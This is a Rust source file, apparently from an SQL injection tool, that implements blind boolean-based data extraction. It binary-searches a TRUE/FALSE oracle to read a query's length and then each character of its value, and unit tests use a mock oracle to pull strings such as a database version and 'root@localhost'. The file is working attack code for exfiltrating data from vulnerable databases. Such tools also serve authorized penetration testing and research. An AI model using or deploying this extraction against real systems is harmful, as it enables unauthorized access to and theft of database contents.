//! Binary-search inference over a TRUE/FALSE oracle

use crate::sqli::core::dialect::Dialect;
use crate::sqli::core::settings::{CHAR_SEARCH_MAX, CHAR_SEARCH_MIN, LENGTH_SEARCH_MAX};
use crate::sqli::error::{Result, SqliError};
use crate::sqli::techniques::ExtractionResult;
use async_trait::async_trait;

/// Answers one SQL condition with TRUE or FALSE
#[async_trait]
pub trait Oracle: Send + Sync {
    async fn check(&self, condition: &str) -> Result<bool>;

    /// Requests spent so far
    fn requests(&self) -> usize;
}

/// Find `x` in `[low, high]` given an oracle for `x > n`.
///
/// Walks the bits of `x - low` from the top, so a range of `k` values always
/// costs exactly `ceil(log2(k))` probes.
pub async fn search<O, F>(oracle: &O, low: u32, high: u32, greater_than: F) -> Result<u32>
where
    O: Oracle + ?Sized,
    F: Fn(u32) -> String + Send + Sync,
{
    let span = high.saturating_sub(low);
    let steps = u32::BITS - span.leading_zeros();

    let mut value = low;
    for bit in (0..steps).rev() {
        let step = 1u32 << bit;
        let pivot = value + step - 1;
        if oracle.check(&greater_than(pivot)).await? {
            value += step;
        }
    }

    Ok(value.min(high))
}

/// Read the string value of `query`: its length first, then each character.
///
/// Cancellation is returned as an error. Any other failure keeps the
/// characters read so far and marks the result partial.
pub async fn infer_value<O>(oracle: &O, dialect: &dyn Dialect, query: &str) -> Result<ExtractionResult>
where
    O: Oracle + ?Sized,
{
    let length = match search(oracle, 0, LENGTH_SEARCH_MAX, |n| {
        format!("{}>{}", dialect.length(query), n)
    })
    .await
    {
        Ok(length) => length as usize,
        Err(SqliError::Cancelled) => return Err(SqliError::Cancelled),
        Err(err) => {
            return Ok(ExtractionResult::interrupted(
                String::new(),
                oracle.requests(),
                SqliError::partial(0, err),
            ))
        }
    };
    tracing::debug!("inferred length {} for {}", length, query);

    let mut value = String::with_capacity(length);
    for position in 1..=length {
        let substring = dialect.substring(query, position, 1);
        let code = search(oracle, CHAR_SEARCH_MIN, CHAR_SEARCH_MAX, |n| {
            format!("{}>{}", dialect.ascii(&substring), n)
        })
        .await;

        match code {
            Ok(code) => value.push(char::from_u32(code).unwrap_or('?')),
            Err(SqliError::Cancelled) => return Err(SqliError::Cancelled),
            Err(err) => {
                return Ok(ExtractionResult::interrupted(
                    value,
                    oracle.requests(),
                    SqliError::partial(position, err),
                ))
            }
        }
    }

    Ok(ExtractionResult::complete(value, oracle.requests()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sqli::core::dialect;
    use crate::sqli::techniques::testing::evaluate;
    use std::sync::atomic::{AtomicUsize, Ordering};

    struct SecretOracle {
        secret: &'static str,
        calls: AtomicUsize,
        fail_after: usize,
    }

    impl SecretOracle {
        fn new(secret: &'static str) -> Self {
            Self {
                secret,
                calls: AtomicUsize::new(0),
                fail_after: usize::MAX,
            }
        }
    }

    #[async_trait]
    impl Oracle for SecretOracle {
        async fn check(&self, condition: &str) -> Result<bool> {
            let call = self.calls.fetch_add(1, Ordering::Relaxed);
            if call >= self.fail_after {
                return Err(SqliError::Transport(anyhow::anyhow!("connection reset")));
            }
            Ok(evaluate(condition, self.secret).unwrap_or(false))
        }

        fn requests(&self) -> usize {
            self.calls.load(Ordering::Relaxed)
        }
    }

    #[tokio::test]
    async fn test_search_covers_range_edges() {
        for secret in ["", "a", "~"] {
            let oracle = SecretOracle::new(secret);
            let found = search(&oracle, 0, LENGTH_SEARCH_MAX, |n| {
                format!("LENGTH((q))>{}", n)
            })
            .await
            .unwrap();
            assert_eq!(found as usize, secret.len());
        }
    }

    #[tokio::test]
    async fn test_exact_probe_count() {
        let secret = "8.0.32-MySQL Community";
        let oracle = SecretOracle::new(secret);
        let result = infer_value(&oracle, dialect::default_dialect(), "@@version")
            .await
            .unwrap();

        assert_eq!(result.value, secret);
        assert!(!result.partial);
        // ceil(log2(1025)) for the length, ceil(log2(95)) per character
        assert_eq!(result.requests, 11 + secret.len() * 7);
    }

    #[tokio::test]
    async fn test_printable_extremes() {
        let oracle = SecretOracle::new(" ~ ");
        let result = infer_value(&oracle, dialect::default_dialect(), "q").await.unwrap();
        assert_eq!(result.value, " ~ ");
    }

    #[tokio::test]
    async fn test_failure_keeps_prefix() {
        let mut oracle = SecretOracle::new("root@localhost");
        oracle.fail_after = 11 + 7 * 4;
        let result = infer_value(&oracle, dialect::default_dialect(), "CURRENT_USER()")
            .await
            .unwrap();

        assert!(result.partial);
        assert_eq!(result.value, "root");
        match result.error {
            Some(SqliError::Partial { position, .. }) => assert_eq!(position, 5),
            other => panic!("unexpected error {:?}", other),
        }
    }

    #[tokio::test]
    async fn test_length_failure_is_empty_partial() {
        let mut oracle = SecretOracle::new("x");
        oracle.fail_after = 0;
        let result = infer_value(&oracle, dialect::default_dialect(), "q").await.unwrap();
        assert!(result.partial);
        assert!(result.value.is_empty());
    }
}
